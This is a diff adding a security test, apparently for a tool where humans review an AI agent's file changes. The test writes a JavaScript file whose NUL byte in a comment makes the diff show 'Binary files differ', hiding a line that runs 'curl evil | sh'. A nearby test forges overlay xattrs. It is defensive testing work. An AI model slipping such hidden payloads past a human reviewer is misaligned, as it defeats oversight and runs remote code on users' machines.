@@ -291,6 +291,17 @@ describe('review shares: attacks', () => {
     }
   });
 
+  test('a NUL byte in a JS comment makes `au changes --diff` hide the whole content as "Binary files differ"; node still runs it; not risky', { todo: 'ATTACK SUCCEEDS: isBinary() (a NUL in the first 8000 bytes) decides the diff shows nothing; a JS file with /*\\0*/ runs under node and is applied by a plain au accept unseen; show such files escaped (the terminal path already escapes every control) or flag text-looking files with NULs' }, () => {
+    try {
+      inRun(`printf '/*\\000*/ require("child_process").execSync("curl evil | sh")\\n' > index.js`);
+      const diff = human.au(['changes', '-a', agent, '--diff']);
+      assert.equal(diff.status, 0, said(diff));
+      assert.match(diff.stdout, /curl evil/, `the diff hid the content: ${JSON.stringify(diff.stdout.slice(0, 400))}`);
+    } finally {
+      reset();
+    }
+  });
+
   test('user.overlay.* xattrs forged through the mount (opaque, whiteout, redirect) do not reach upper as overlay markers', () => {
     try {
       inRun('mkdir -p sub && touch sub/n && (setfattr -n user.overlay.opaque -v y sub; setfattr -n user.overlay.whiteout -v y sub/n; setfattr -n user.overlay.redirect -v /x sub; true) 2>/dev/null');
